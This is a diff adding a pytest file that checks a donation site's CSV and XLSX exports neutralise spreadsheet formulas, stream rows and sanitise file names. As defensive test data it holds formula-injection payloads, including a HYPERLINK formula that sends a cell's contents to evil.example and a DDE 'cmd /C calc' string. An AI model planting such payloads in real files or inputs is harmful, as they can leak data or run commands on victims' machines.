@@ -1,0 +1,80 @@
+"""Every CSV/XLSX the site writes: no cell a spreadsheet would run as a formula, and rows
+streamed rather than built in memory (pairing/downloads.py)."""
+
+from __future__ import annotations
+
+import csv
+import io
+
+import pytest
+from giving.giving_helpers import world
+from openpyxl import load_workbook
+
+import support
+from pairing import downloads
+from pairing.stats import opendata
+
+EVIL = '=HYPERLINK("http://evil.example/?"&B2,"详情")'
+
+
+@pytest.mark.parametrize("value,expected", [
+    (EVIL, "'" + EVIL), ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
+    ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
+    ("-12.50", "-12.50"), ("+86", "+86"), ("十八洞村", "十八洞村"), ("a=b", "a=b"),
+    (-1500, -1500), (2.5, 2.5), (None, None), (True, True),
+])
+def test_a_cell_is_never_a_formula(value, expected):
+    assert downloads.neutral(value) == expected
+
+
+def _gift_from(app, make_user, donor_name: str) -> None:  # noqa: ANN001
+    w = world(app, make_user, needed=10_000)
+    donor = app.test_client()
+    support.login(donor, make_user("donor", name=donor_name).email)
+    support.post(donor, f"/crowdfunding/{w.request_id}/donate", {
+        "amount": "100", "provider": "sandbox", "fallback": "0", "key": "abc"})
+
+
+def test_a_donor_named_like_a_formula_is_text_in_the_ledger_downloads(app, client, make_user):
+    _gift_from(app, make_user, EVIL)
+    got = client.get("/open-data/ledger.csv")
+    rows = list(csv.DictReader(io.StringIO(got.get_data().decode("utf-8-sig"))))
+    assert [r["donor_or_purpose"] for r in rows] == ["'" + EVIL]
+    assert int(rows[0]["amount_fen"]) == 10_000  # numbers stay numbers
+    got = client.get("/open-data/ledger.xlsx")
+    sheet = load_workbook(io.BytesIO(got.data)).worksheets[0]
+    header = [c.value for c in sheet[1]]
+    cell = sheet.cell(2, header.index("donor_or_purpose") + 1)
+    assert cell.data_type == "s" and cell.value == "'" + EVIL  # not a formula ("f")
+    assert sheet.cell(2, header.index("amount_fen") + 1).value == 10_000
+
+
+@pytest.mark.parametrize("name", [d.name for d in opendata.datasets().values()]
+                         + ["ledger", "offers", "needs", "sales", "pairings", "reports"])
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_every_download_is_streamed(app, client, name, fmt):
+    got = client.get(f"/open-data/{name}.{fmt}", buffered=False)
+    assert got.status_code == 200 and got.is_streamed
+    assert got.headers["Content-Disposition"] == f'attachment; filename="{name}.{fmt}"'
+    body = b"".join(got.response)
+    got.close()
+    header = opendata.find(name).header
+    if fmt == "csv":
+        assert body.startswith("\ufeff".encode())
+        assert next(csv.reader(io.StringIO(body.decode("utf-8-sig")))) == header
+    else:
+        sheet = load_workbook(io.BytesIO(body)).worksheets[0]
+        assert [c.value for c in sheet[1]] == header
+
+
+def test_a_csv_is_sent_in_pieces_as_its_rows_are_made():
+    rows = ([i, f"村{i}"] for i in range(2 * downloads.CSV_BATCH + 1))
+    chunks = list(downloads.csv_chunks(["id", "name"], rows))
+    assert len(chunks) == 3
+    assert b"".join(chunks).decode("utf-8-sig").count("\r\n") == 2 * downloads.CSV_BATCH + 2
+
+
+def test_the_file_name_takes_only_safe_characters_of_the_query(client):
+    got = client.get('/open-data/villages.csv?province=43"; x=1', buffered=False)
+    assert got.headers["Content-Disposition"] == 'attachment; filename="villages-43___x_1.csv"'
+    got.close()
